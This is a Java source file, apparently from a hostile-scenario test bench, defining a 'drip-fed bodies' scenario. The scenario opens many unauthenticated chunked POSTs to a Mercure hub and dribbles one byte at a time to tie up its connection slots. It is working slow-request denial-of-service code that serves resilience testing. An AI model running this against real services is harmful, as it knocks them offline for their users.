package dev.sluice.bench.hostile;

import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * Hole 2a: many unauthenticated chunked POSTs whose bodies arrive one byte every few seconds and
 * never end, to hold the hub's connection slots (or its file handles) without a token.
 */
public final class DripFedBodies implements Scenario {

    private final int connections;
    private final Duration dripInterval;
    private final Duration duration;

    public DripFedBodies(int connections, Duration dripInterval, Duration duration) {
        this.connections = connections;
        this.dripInterval = dripInterval;
        this.duration = duration;
    }

    @Override
    public String id() {
        return "2a-drip";
    }

    @Override
    public String title() {
        return connections + " unauthenticated chunked POSTs dripping 1 byte every " + dripInterval.toSeconds()
                + " s, " + duration.toSeconds() + " s";
    }

    @Override
    public void attack(HostileTarget target, AttackContext context) throws InterruptedException {
        byte[] head = ("POST /.well-known/mercure HTTP/1.1\r\nHost: " + target.hostHeader()
                + "\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nd\r\n")
                .getBytes(StandardCharsets.US_ASCII);
        byte[] drip = "1\r\na\r\n".getBytes(StandardCharsets.US_ASCII);
        try (SocketHerd herd = new SocketHerd(target, context)) {
            herd.open(connections, head);
            long openedAt = context.elapsedMillis();
            context.note(herd.stillOpen() + " of " + connections + " connections opened in " + openedAt + " ms ("
                    + herd.connectFailed() + " connects failed)");
            long end = System.nanoTime() + duration.toNanos();
            while (System.nanoTime() < end) {
                Thread.sleep(Math.min(dripInterval.toMillis(), Math.max(1, (end - System.nanoTime()) / 1_000_000)));
                herd.sweep(drip);
            }
            herd.sweep(new byte[0]);
            context.note(herd.stillOpen() + " drip-fed requests still held open by the hub after "
                    + duration.toSeconds() + " s; " + herd.closedByHub() + " closed by the hub; statuses seen: "
                    + herd.distinctStatuses());
        }
    }
}
